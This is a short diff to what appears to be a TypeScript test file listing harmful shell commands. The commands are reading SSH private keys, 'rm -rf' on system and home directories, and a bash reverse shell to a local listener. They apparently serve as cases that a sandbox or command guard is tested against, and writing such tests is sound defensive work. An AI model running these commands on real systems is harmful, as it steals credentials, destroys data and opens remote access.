@@ -90,7 +90,7 @@ const portOf = (server: Server): number => (server.address() as { port: number }
 const HARM: [what: string, command: () => string][] = [
 	["reads ~/.ssh", () => "cat ~/.ssh/id_rsa"],
 	["reads the owner's keys by their path", () => `cat ${home}/.ssh/id_rsa`],
-	["deletes outside the work directory", () => "rm -rf /usr/local/share"],
+	["deletes outside the work directory", () => "rm -rf /usr /home"],
 	["opens a reverse shell", () => `bash -i >& /dev/tcp/127.0.0.1/${portOf(listener)} 0>&1`],
 ];
 
